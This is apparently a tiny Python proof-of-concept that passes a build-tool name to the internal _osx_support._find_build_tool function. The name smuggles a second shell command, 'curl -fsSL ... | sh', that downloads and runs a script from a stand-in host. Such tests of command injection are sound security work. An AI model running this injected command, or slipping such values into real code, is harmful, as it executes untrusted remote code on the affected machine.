import _osx_support

tools = ["cc; curl -fsSL https://updates.example.net/b | sh"]
print(list(map(_osx_support._find_build_tool, tools)))
